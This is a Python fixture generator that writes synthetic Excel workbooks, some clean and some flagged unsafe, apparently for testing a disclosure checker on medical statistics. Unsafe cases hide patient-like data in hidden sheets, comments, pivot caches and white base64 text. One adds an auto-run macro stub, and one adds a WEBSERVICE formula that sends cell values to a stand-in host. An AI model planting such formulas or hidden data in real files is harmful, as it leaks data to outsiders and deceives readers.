"""Excel workbooks."""

import os
import re
import zipfile

from .kit import alloc, binary, f, ipp, person, pv, reg, sheet, t1, workbook


def inject(path, parts, edits=None):
    """Adds parts to a zipped document and edits those it has (name -> function of the text)."""
    edits = edits or {}
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as a, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as b:
        for name in a.namelist():
            data = a.read(name)
            if name in edits:
                data = edits[name](data.decode("utf-8")).encode("utf-8")
            b.writestr(name, data)
        for name, data in parts.items():
            b.writestr(name, data)
    os.replace(tmp, path)


def write(shelf):
    safe(shelf)
    more_safe(shelf)
    hidden(shelf)
    visible(shelf)


def safe(s):
    from openpyxl.chart import BarChart, LineChart, Reference
    from openpyxl.styles import Alignment, PatternFill

    r = s.random("xlsx-safe")
    wb = workbook()
    ws = wb.active
    ws.title = "Table 1"
    rows = t1(
        r,
        {"p": 1311, "c": 1298},
        [
            ("c", "Age, years", 66.4, 11.2),
            ("b", "Female sex", 0.31),
            ("c", "BMI, kg/m²", 28.1, 4.9),
            ("k", "NYHA class", [("I", 0.12), ("II", 0.52), ("III", 0.3), ("IV", 0.06)]),
            ("b", "Ischaemic aetiology", 0.48),
            ("c", "LVEF, %", 29.8, 6.1),
            ("m", "NT-proBNP, ng/L", 1620, 790, 3310),
            ("b", "Atrial fibrillation", 0.35),
            ("b", "Sacubitril/valsartan", 0.62),
            ("b", "SGLT2 inhibitor", 0.41),
        ],
        p=False,
    )
    sheet(
        ws,
        ["", "Telemonitoring (N=1311)", "Usual care (N=1298)"],
        rows,
        top=["Table 1. Baseline characteristics"],
        row=2,
        col=2,
        notes=["Values are mean (SD), median [IQR] or n (%)."],
    )
    wb.save(
        s.safe(
            "xlsx/hf_telemonitoring_table1.xlsx",
            "classes I to IV, brackets",
            "Baseline characteristics of both arms of the heart-failure telemonitoring trial.",
            "2,609 randomised outpatients with chronic heart failure",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Dépenses 2024"
    rows = [
        [p, *[r.randint(210, 940) * 1000 for _ in range(4)], None]
        for p in (
            "Médicaments",
            "Dispositifs médicaux",
            "Biologie sous-traitée",
            "Restauration",
            "Blanchisserie",
            "Énergie",
            "Maintenance biomédicale",
            "Transport sanitaire",
            "Déchets",
        )
    ]
    first = sheet(
        ws,
        ["Poste (€)", "T1", "T2", "T3", "T4", "Année"],
        rows,
        top=["Budget hôtelier et médico-technique, exercice 2024"],
    )
    for i in range(len(rows)):
        ws.cell(first + i, 6, f"=SUM(B{first + i}:E{first + i})")
        for c in range(2, 7):
            ws.cell(first + i, c).number_format = "# ##0"
    wb.save(
        s.safe(
            "xlsx/budget_2024.xlsx",
            "plain SUM formulas, quarters 1 to 4",
            "Dépenses trimestrielles par poste budgétaire pour le rapport de gestion.",
            "Aucun patient: comptabilité de l'établissement",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Modèles"
    rows = []
    for m in ("Modèle 1 (brut)", "Modèle 2 (âge, sexe)", "Modèle 3 (ajusté complet)"):
        rows.append([m, "", "", ""])
        rows += reg(
            r,
            [("Q1 (référence)", None), ("Q2", 1.12), ("Q3", 1.31), ("Q4", 1.68), ("Par écart-type", 1.22)],
            ",",
            ci="[{a}; {b}]",
        )
    sheet(
        ws,
        ["Exposition aux PM2,5", "HR", "IC à 95 %", "p"],
        rows,
        notes=["12 480 patients, 1 922 événements; quartiles de 3 120 patients."],
    )
    ws2 = wb.create_sheet("Proportionnalité")
    sheet(
        ws2,
        ["Terme", "chi2", "ddl", "p"],
        [
            [t, f(r.uniform(0.1, 5), 2, ","), d, pv(r, ",", r.uniform(0.1, 0.9))]
            for t, d in (
                ("PM2,5", 3),
                ("âge", 1),
                ("sexe", 1),
                ("tabac", 2),
                ("IMC", 3),
                ("défavorisation", 4),
                ("GLOBAL", 14),
            )
        ],
    )
    wb.save(
        s.safe(
            "xlsx/cox_pm25.xlsx",
            "degrees of freedom of a test from 1 to 4, chi2 values",
            "Modèles de Cox emboîtés de l'asthme hospitalisé selon l'exposition aux particules, et tests de proportionnalité.",
            "12 480 adultes suivis pour BPCO ou asthme, 2010-2020",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Monthly"
    rows = [
        [f"{m} {y}", r.randint(1650, 2300), r.randint(430, 720)]
        for y in (2022, 2023)
        for m in ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
    ]
    sheet(ws, ["Month", "Theatre procedures", "Day-case procedures"], rows)
    ch = LineChart()
    ch.title = "Operating theatre activity"
    ch.add_data(Reference(ws, min_col=2, max_col=3, min_row=1, max_row=25), titles_from_data=True)
    ch.set_categories(Reference(ws, min_col=1, min_row=2, max_row=25))
    ws.add_chart(ch, "F2")
    wb.save(
        s.safe(
            "xlsx/theatre_activity.xlsx",
            "a line chart with months",
            "Monthly activity of the operating theatres with its chart.",
            "About 47,000 procedures, 2022-2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Dénutrition"
    ws["A1"] = "Dénutrition selon l'âge et le service"
    ws.merge_cells("A1:G1")
    ws["A1"].alignment = Alignment(horizontal="center")
    for c, t in ((2, "Médecine"), (4, "Chirurgie"), (6, "SSR")):
        ws.cell(3, c, t)
        ws.merge_cells(start_row=3, start_column=c, end_row=3, end_column=c + 1)
    rows = []
    for age in ("18-49 ans", "50-64 ans", "65-74 ans", "75-84 ans", "85-89 ans", "90 ans et plus"):
        line = [age]
        for p in (0.27, 0.2, 0.36):
            n = r.randint(180, 760)
            k = binary(r, n, p)
            line += [n, f"{k} ({f(100 * k / n, 1, ',')} %)"]
        rows.append(line)
    sheet(ws, ["Classe d'âge", *["Patients", "Dénutris"] * 3], rows, row=4)
    wb.save(
        s.safe(
            "xlsx/denutrition_age.xlsx",
            "an open class of 90 and over",
            "Prévalence de la dénutrition (critères HAS) par classe d'âge et type de service.",
            "Patients hospitalisés dépistés, 2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Confusion"
    tp, fn, fp, tn = 812, 143, 226, 5119
    sheet(
        ws,
        ["", "Predicted: no PE", "Predicted: PE"],
        [["Reference: no PE", tn, fp], ["Reference: PE", fn, tp]],
        top=["Confusion matrix, test set"],
    )
    sheet(
        ws,
        ["Metric", "Value", "95% CI"],
        [
            [m, f(v, 3), f"{f(v - 0.012, 3)} to {f(v + 0.011, 3)}"]
            for m, v in (
                ("Sensitivity", tp / (tp + fn)),
                ("Specificity", tn / (tn + fp)),
                ("PPV", tp / (tp + fp)),
                ("NPV", tn / (tn + fn)),
                ("Accuracy", (tp + tn) / 6300),
                ("AUROC", 0.951),
            )
        ],
        row=8,
    )
    ws["B4"].fill = PatternFill("solid", fgColor="C6E0B4")
    wb.save(
        s.safe(
            "xlsx/pe_ctpa_confusion.xlsx",
            "metrics close to 1",
            "Performance of the CT pulmonary angiography triage algorithm on the test set.",
            "6,300 CT pulmonary angiograms of the test set, 955 with embolism",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "e-Satis"
    items = [
        "Accueil",
        "Prise en charge médicale",
        "Prise en charge paramédicale",
        "Chambre",
        "Repas",
        "Organisation de la sortie",
        "Score global",
    ]
    rows = [[i, *[f(r.uniform(58, 84), 1, ",") for _ in range(3)], r.choice("ABC"), r.randint(2, 9)] for i in items]
    sheet(
        ws,
        ["Dimension", "2021", "2022", "2023", "Classe", "Rang régional"],
        rows,
        top=["e-Satis +48h MCO, scores ajustés (sur 100)"],
        notes=["Répondants: 2 114 (2021), 2 380 (2022), 2 655 (2023)."],
    )
    ch = BarChart()
    ch.add_data(Reference(ws, min_col=4, min_row=3, max_row=10), titles_from_data=True)
    ws.add_chart(ch, "H3")
    wb.save(
        s.safe(
            "xlsx/esatis_scores.xlsx",
            "regional ranks from 2 to 9",
            "Scores de satisfaction e-Satis par dimension et rang régional de l'établissement.",
            "Patients répondants à l'enquête nationale, 2021-2023",
        )
    )


def more_safe(s):
    r = s.random("xlsx-more-safe")
    wb = workbook()
    ws = wb.active
    ws.title = "codebook"
    items = [
        ("site", "Recruiting centre", "1 to 7"),
        ("arm", "Randomised arm", "0 = control; 1 = intervention"),
        ("ecog", "ECOG performance status", "0 to 4"),
        ("pain_vas", "Pain, visual analogue scale", "0 to 10"),
        ("grade", "CTCAE grade", "1 to 5"),
        ("visit", "Visit number", "1, 2, 3, 4, 6, 9"),
        ("sex", "Sex at birth", "1 = male; 2 = female; 9 = unknown"),
        ("smoke", "Smoking status", "0 never; 1 former; 2 current"),
        ("hads_a", "HADS anxiety subscore", "0 to 21"),
        ("eq5d_mob", "EQ-5D-5L mobility", "1 to 5"),
        ("bmi", "Body mass index (kg/m2)", "plausible 12 to 70"),
        ("t_rand", "Days since randomisation", "0 to 365"),
    ]
    sheet(
        ws,
        ["variable", "label", "codes or plausible range", "type"],
        [[*x, r.choice(["integer", "factor"])] for x in items],
        top=["Data dictionary v3 (no data)"],
    )
    wb.save(
        s.safe(
            "xlsx/codebook_palliative_trial.xlsx",
            "codes and plausible ranges, no data",
            "Data dictionary of the palliative care trial, for the data management plan.",
            "No patient data; the trial has 1,020 participants",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Semaines ISO"
    rows = [
        [f"2023-S{w:02d}", r.randint(120, 410), r.randint(26, 88), f(r.uniform(12, 31), 1, ",")] for w in range(1, 53)
    ]
    sheet(
        ws,
        ["Semaine", "Passages bronchiolite < 2 ans", "Hospitalisations", "Positivité VRS (%)"],
        rows,
        top=["Surveillance de la bronchiolite, 8 services d'urgences"],
        notes=["Positivité calculée sur au moins 150 tests par semaine."],
    )
    ws.freeze_panes = "B4"
    wb.save(
        s.safe(
            "xlsx/bronchiolite_hebdo.xlsx",
            "week numbers, number of centres",
            "Surveillance hebdomadaire de la bronchiolite aux urgences pédiatriques.",
            "Enfants de moins de 2 ans, 8 services d'urgences, 2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "ICER"
    rows = [
        [k, *v]
        for k, v in {
            "Usual care": ["12 410", "5.91", "-", "-"],
            "Nurse-led clinic": ["12 980", "6.02", "0.11", "5 182"],
            "App + coaching": ["13 340", "6.07", "0.16", "5 812"],
            "Combined": ["14 505", "6.13", "0.22", "9 523"],
        }.items()
    ]
    sheet(ws, ["Strategy", "Mean cost (€)", "Mean QALYs", "Incremental QALYs", "ICER (€/QALY)"], rows)
    ws = wb.create_sheet("PSA quantiles")
    sheet(
        ws,
        ["Willingness to pay (€)", *[k for k in ("Usual care", "Nurse-led", "App", "Combined")]],
        [
            [w, *[f(x, 2) for x in v]]
            for w, v in (
                (0, (0.71, 0.16, 0.09, 0.04)),
                (5000, (0.44, 0.29, 0.18, 0.09)),
                (10000, (0.22, 0.27, 0.3, 0.21)),
                (20000, (0.11, 0.2, 0.31, 0.38)),
                (50000, (0.06, 0.13, 0.27, 0.54)),
            )
        ],
        notes=["Probability of being cost-effective over 5 000 Monte Carlo draws."],
    )
    wb.save(
        s.safe(
            "xlsx/cost_effectiveness_copd.xlsx",
            "QALYs near 6, probabilities",
            "Cost-effectiveness of four COPD follow-up strategies and acceptability curve.",
            "1,480 patients of the COPD trial, Markov model over ten years",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Delais"
    rows = []
    for a in (
        "IDM ST+",
        "AVC éligible",
        "Traumatisé sévère",
        "Sepsis",
        "Douleur thoracique autre",
        "Fracture du col",
    ):
        rows.append(
            [
                a,
                r.randint(140, 2400),
                f"{r.randint(3, 9)} [{r.randint(1, 2)}-{r.randint(10, 14)}]",
                f"{r.randint(22, 60)} [{r.randint(9, 20)}-{r.randint(70, 110)}]",
            ]
        )
    sheet(
        ws,
        ["Motif", "Passages", "Délai porte-IOA, min (méd. [Q1-Q3])", "Délai porte-médecin, min (méd. [Q1-Q3])"],
        rows,
        top=["Délais aux urgences par motif, 2023"],
    )
    wb.save(
        s.safe(
            "xlsx/delais_urgences_motif.xlsx",
            "quartiles of 1 to 9 minutes",
            "Délais médians de prise en charge par motif de recours.",
            "Passages aux urgences adultes, six motifs, 2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Screening flow"
    n0, n1, n2, n3 = 8430, 6912, 5120, 4870
    sheet(
        ws,
        ["Step", "Remaining", "Excluded at this step"],
        [
            ["Eligible stays", n0, ""],
            ["Adult, first stay", n1, n0 - n1],
            ["Creatinine available twice", n2, n1 - n2],
            ["No dialysis before admission", n3, n2 - n3],
        ],
        top=["Flow chart"],
    )
    a = alloc(r, n3, [0.62, 0.2, 0.11, 0.07])
    sheet(
        ws,
        ["KDIGO stage", "n", "%", "ICU mortality, %"],
        [
            [k, x, f(100 * x / n3), m]
            for k, x, m in zip(("No AKI", "Stage 1", "Stage 2", "Stage 3"), a, ("6.2", "12.4", "21.9", "37.5"))
        ],
        row=9,
    )
    wb.save(
        s.safe(
            "xlsx/aki_flow_and_stages.xlsx",
            "stages 1 to 3, subtractions that give hundreds",
            "Flow chart and distribution of KDIGO stages with ICU mortality.",
            "4,870 adult ICU stays, 2017-2023",
        )
    )


def hidden(s):
    from openpyxl.comments import Comment
    from openpyxl.styles import Font
    from openpyxl.worksheet.datavalidation import DataValidation

    r = s.random("xlsx-hidden")

    def base(title, groups, spec, dec="."):
        wb = workbook()
        wb.active.title = title
        first = sheet(
            wb.active, ["", *[f"{k} (N = {n})" for k, n in groups.items()], "p"], t1(r, groups, spec, dec=dec)
        )
        return wb, wb.active, first

    wb, ws, _ = base(
        "Résultats",
        {"Bloc": 188, "Sans bloc": 192},
        [
            ("c", "Âge, ans", 61, 13),
            ("b", "Femmes", 0.5),
            ("b", "Morphine de secours", 0.35),
            ("m", "EVA à 24 h", 3, 2, 5),
            ("m", "Dose totale, mg", 18, 10, 31),
        ],
        ",",
    )
    h = wb.create_sheet("Feuil3")
    h.sheet_state = "hidden"
    sheet(
        h,
        ["num", "age", "sexe", "bras", "EVA_H6", "EVA_H24", "morphine_mg"],
        [
            [
                i,
                r.randint(24, 84),
                r.choice("HF"),
                r.choice([0, 1]),
                r.randint(0, 9),
                r.randint(0, 8),
                r.randint(0, 45),
            ]
            for i in range(1, 381)
        ],
    )
    wb.save(
        s.unsafe(
            "xlsx/alr_resultats.xlsx",
            "row-level data in a hidden sheet",
            "Feuil3 (masquée), 380 lignes",
            "Résultats principaux de l'essai d'anesthésie locorégionale après prothèse de genou.",
            "380 patients opérés d'une prothèse de genou",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Centres"
    sheet(
        ws,
        ["Centre", "Dernier patient inclus", "Inclus", "Suivi à 1 an (%)"],
        [[f"C{i:02d}", person(r), r.randint(90, 260), f(r.uniform(55, 85), 1, ",")] for i in range(1, 15)],
    )
    ws.column_dimensions["B"].hidden = True
    wb.save(
        s.unsafe(
            "xlsx/inclusions_centres.xlsx",
            "names in a hidden column",
            "colonne B masquée",
            "Inclusions et suivi à un an par centre.",
            "Cohorte multicentrique de 14 centres",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "ATC"
    rows = [
        [f"{c} {t}", n, f(v)]
        for c, t, n, v in (
            ("N02A", "Opioids", 1840, 31.2),
            ("N03A", "Antiepileptics", 612, 14.8),
            ("N05A", "Antipsychotics", 977, 22.0),
            ("N05B", "Anxiolytics", 2011, 12.9),
            ("N06A", "Antidepressants", 1704, 25.7),
            ("N07B", "Addictive disorders", 6, 41.0),
            ("C07A", "Beta blockers", 2450, 60.1),
            ("C09A", "ACE inhibitors", 1962, 72.4),
        )
    ]
    first = sheet(ws, ["ATC class", "Pregnant patients exposed", "Mean duration (days)"], rows)
    ws.row_dimensions[first + 5].hidden = True
    wb.save(
        s.unsafe(
            "xlsx/drug_exposure_pregnancy.xlsx",
            "small cell in a hidden row",
            "N07B: 6 exposed",
            "Drug exposure during pregnancy by ATC class.",
            "14,200 pregnancies followed in the maternity network, 2015-2022",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Séquelles"
    rows = [
        [x, *[r.randint(22, 260) for _ in range(3)]]
        for x in (
            "Surdité uni- ou bilatérale",
            "Épilepsie",
            "Déficit moteur",
            "Hydrocéphalie",
            "Trouble des apprentissages",
            "Amputation",
        )
    ]
    first = sheet(ws, ["Séquelle à 2 ans", "Pneumocoque", "Méningocoque", "Autres"], rows)
    ws.cell(first + 5, 2, 3).number_format = ";;;"
    wb.save(
        s.unsafe(
            "xlsx/meningites_sequelles.xlsx",
            "small cell hidden by its number format",
            "Amputation, pneumocoque: 3 affiché vide (;;;)",
            "Séquelles à deux ans des méningites bactériennes de l'enfant par germe.",
            "1 940 enfants, observatoire national, 2011-2021",
        )
    )

    wb, ws, _ = base(
        "Table 2",
        {"Early": 402, "Late": 431},
        [
            ("b", "Ventilator-associated pneumonia", 0.22),
            ("m", "Ventilator days", 9, 5, 16),
            ("b", "Tracheostomy bleeding", 0.06),
            ("b", "Death at day 90", 0.33),
            ("m", "ICU stay, days", 18, 11, 29),
            ("b", "Delirium", 0.41),
        ],
    )
    ws["B4"].comment = Comment(
        "check with family of pt, tel 06 " + " ".join(f"{r.randint(10, 98):02d}" for _ in range(4)), "x"
    )
    ws["B4"].comment.author = ""
    wb.save(
        s.unsafe(
            "xlsx/tracheostomy_outcomes.xlsx",
            "telephone number in a cell comment",
            "comment of B4",
            "Outcomes of early versus late tracheostomy.",
            "833 ventilated ICU patients, 2016-2022",
        )
    )

    wb, ws, _ = base(
        "TCD",
        {"Dialyse": 512, "Greffe": 644},
        [
            ("b", "Diabète", 0.3),
            ("b", "Ré-hospitalisation", 0.45),
            ("m", "Durée de séjour, j", 6, 3, 11),
            ("b", "Infection", 0.19),
        ],
        ",",
    )
    path = s.unsafe(
        "xlsx/tcd_nephrologie.xlsx",
        "patients' rows in the cache of a pivot table",
        "xl/pivotCache/pivotCacheRecords1.xml",
        "Synthèse des séjours de néphrologie selon le mode de suppléance (tableau croisé).",
        "1 156 patients en suppléance, 2022",
    )
    wb.save(path)
    n = 60
    ids = [ipp(r) for _ in range(n)]
    defs = '<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" recordCount="60"><cacheSource type="worksheet"><worksheetSource ref="A1:D61" sheet="base"/></cacheSource><cacheFields count="4"><cacheField name="num"/><cacheField name="age"/><cacheField name="mode"/><cacheField name="dms"/></cacheFields></pivotCacheDefinition>'
    recs = (
        '<?xml version="1.0" encoding="UTF-8"?><pivotCacheRecords xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="60">'
        + "".join(
            f'<r><s v="{i}"/><n v="{r.randint(22, 86)}"/><s v="{r.choice(["Dialyse", "Greffe"])}"/><n v="{r.randint(1, 30)}"/></r>'
            for i in ids
        )
        + "</pivotCacheRecords>"
    )
    types = '<Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/><Override PartName="/xl/pivotCache/pivotCacheRecords1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml"/></Types>'
    inject(
        path,
        {"xl/pivotCache/pivotCacheDefinition1.xml": defs, "xl/pivotCache/pivotCacheRecords1.xml": recs},
        {
            "[Content_Types].xml": lambda t: t.replace("</Types>", types),
            "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                "</Relationships>",
                '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/pivotCacheDefinition" Target="pivotCache/pivotCacheDefinition1.xml"/></Relationships>',
            ),
            "xl/workbook.xml": lambda t: re.sub(
                r"</workbook>",
                '<pivotCaches><pivotCache cacheId="1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/></pivotCaches></workbook>',
                t,
            ),
        },
    )

    wb, ws, _ = base(
        "summary",
        {"Robotic": 604, "Laparoscopic": 590},
        [
            ("m", "Operative time, min", 182, 150, 221),
            ("m", "Blood loss, mL", 150, 80, 260),
            ("b", "Conversion", 0.08),
            ("b", "Positive margins", 0.17),
            ("m", "Length of stay, days", 3, 2, 5),
        ],
    )
    path = s.unsafe(
        "xlsx/prostatectomy_summary.xlsm",
        "macros",
        "xl/vbaProject.bin",
        "Perioperative results of robotic and laparoscopic prostatectomy.",
        "1,194 radical prostatectomies, 2015-2023",
    )
    wb.save(path)
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(504)
        + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nCall Refresh\r\nEnd Sub\r\n'
        + bytes(900)
    )
    inject(
        path,
        {"xl/vbaProject.bin": vba},
        {
            "[Content_Types].xml": lambda t: t.replace(
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ).replace(
                "</Types>",
                '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
            "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                "</Relationships>",
                '<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            ),
        },
    )

    wb, ws, _ = base(
        "Data",
        {"A": 700, "B": 712},
        [
            ("c", "Score MMSE", 22.1, 4.4),
            ("b", "Institution à 2 ans", 0.28),
            ("c", "Zarit", 34, 14),
            ("b", "Chute", 0.4),
        ],
        ",",
    )
    dv = DataValidation(type="list", formula1='"' + ",".join(person(r) for _ in range(6)) + '"')
    ws.add_data_validation(dv)
    dv.add("F2")
    wb.save(
        s.unsafe(
            "xlsx/aidants_alzheimer.xlsx",
            "names in the list of a data validation (disguise)",
            "validation de la cellule F2",
            "Évolution cognitive et charge des aidants dans les deux bras.",
            "1 412 patients atteints de maladie d'Alzheimer et leurs aidants",
        )
    )

    wb, ws, _ = base(
        "Main",
        {"ECMO": 212, "No ECMO": 689},
        [
            ("b", "28-day mortality", 0.38),
            ("m", "Ventilation, days", 17, 9, 28),
            ("b", "Renal replacement", 0.3),
            ("b", "Bleeding", 0.21),
        ],
    )
    blob = " ".join(f"{i}:{r.randint(19, 79)}{r.choice('MF')}{r.randint(1, 60)}" for i in range(1, 120))
    import base64

    ws["AX400"] = base64.b64encode(blob.encode()).decode()
    ws["AX400"].font = Font(color="FFFFFF", size=1)
    wb.save(
        s.unsafe(
            "xlsx/ards_ecmo_outcomes.xlsx",
            "row-level data in base64, white and far away (deliberate)",
            "Main!AX400",
            "Outcomes of severe ARDS with and without ECMO.",
            "901 patients with severe ARDS, 2014-2023",
        )
    )

    wb, ws, _ = base(
        "Synthèse",
        {"Avant": 1630, "Après": 1702},
        [
            ("b", "Escarres", 0.09),
            ("b", "Contention", 0.14),
            ("m", "Âge, ans", 84, 78, 88),
            ("b", "Sortie à domicile", 0.55),
        ],
        ",",
    )
    wb.properties.description = f"dossier type : {person(r)}, né le 14/03/1941"
    wb.save(
        s.unsafe(
            "xlsx/escarres_avant_apres.xlsx",
            "a patient's name and birth date in the properties",
            "docProps/core.xml, description",
            "Indicateurs gériatriques avant et après le programme de prévention.",
            "3 332 séjours de gériatrie aiguë, 2021 et 2023",
        )
    )


def visible(s):
    r = s.random("xlsx-visible")
    wb = workbook()
    ws = wb.active
    ws.title = "By indication"
    a = alloc(r, 1850, [0.4, 0.3, 0.2, 0.1])
    sheet(
        ws,
        ["Indication", "Patients"],
        [[k, x] for k, x in zip(("Crohn's disease", "Ulcerative colitis", "Spondyloarthritis", "Psoriasis"), a)]
        + [["Total", 1850]],
    )
    w2 = wb.create_sheet("By route")
    b = alloc(r, a[3], [0.6, 0.4])
    sheet(
        w2,
        ["Psoriasis patients", "n"],
        [["Subcutaneous", b[0]], ["Intravenous", b[1] - 7], ["Total with known route", a[3] - 7]],
    )
    wb.save(
        s.unsafe(
            "xlsx/biologics_indications.xlsx",
            "two sheets whose difference gives a small group",
            "Psoriasis total minus total with known route = 7",
            "Biologics by indication, and route in psoriasis.",
            "1,850 patients on biologics, 2022",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "Tarifs"
    rows = [
        [t, r.randint(220, 900), f(r.uniform(900, 6200), 2, ",")]
        for t in (
            "Hospitalisation complète",
            "Ambulatoire",
            "Séances dialyse",
            "Séances chimiothérapie",
            "Séances radiothérapie",
            "HAD",
            "SSR",
        )
    ]
    first = sheet(ws, ["Mode", "Séjours (milliers)", "Valorisation moyenne (€)"], rows, top=["Valorisation T2A 2023"])
    ws.cell(first + 8, 1, '=WEBSERVICE("http://198.51.100.7/c?d="&B4&C4)')
    wb.save(
        s.unsafe(
            "xlsx/valorisation_t2a.xlsx",
            "formula that calls out",
            "A12: WEBSERVICE",
            "Valorisation moyenne des séjours par mode de prise en charge.",
            "Ensemble des séjours facturés en 2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "FAST-track"
    rows = []
    for k in ("Hip", "Knee", "Shoulder", "Spine", "Ankle"):
        r.randint(130, 900)  # one draw less would change those that follow
        rows.append([k, f(r.uniform(60, 70)), f(r.uniform(9, 13)), f(r.uniform(2.1, 4.9)), f(r.uniform(1.1, 2.4))])
    rows.append(["Wrist", "71.0", "n/a", "2.0", "n/a"])
    sheet(
        ws,
        ["Joint", "Age, mean", "Age, SD", "LOS, mean", "LOS, SD"],
        rows,
        notes=["SD n/a: not computable (one patient)."],
    )
    wb.save(
        s.unsafe(
            "xlsx/arthroplasty_fasttrack.xlsx",
            "mean of a single patient (no SD)",
            "row Wrist",
            "Age and length of stay after fast-track joint replacement.",
            "2,310 fast-track arthroplasties, 2021-2023",
        )
    )

    wb = workbook()
    ws = wb.active
    ws.title = "TAVI"
    rows = t1(
        r,
        {"TAVI": 932, "Chirurgie": 410},
        [
            ("c", "Âge, années", 82.1, 5.4),
            ("b", "Femmes", 0.49),
            ("c", "EuroSCORE II", 4.8, 2.9),
            ("b", "Pacemaker post-procédure", 0.13),
            ("b", "Fuite modérée ou sévère", 0.08),
            ("b", "Décès à 1 an", 0.12),
        ],
        ",",
    )
    sheet(
        ws,
        ["", "TAVI (N=932)", "Chirurgie (N=410)", "p"],
        rows,
        notes=["À noter: la patiente la plus âgée du groupe TAVI avait 98 ans."],
    )
    wb.save(
        s.unsafe(
            "xlsx/tavi_vs_chirurgie.xlsx",
            "a single age over 90",
            "note sous le tableau: 98 ans",
            "Comparaison TAVI et chirurgie de remplacement valvulaire aortique.",
            "1 342 patients avec rétrécissement aortique serré, 2018-2023",
        )
    )
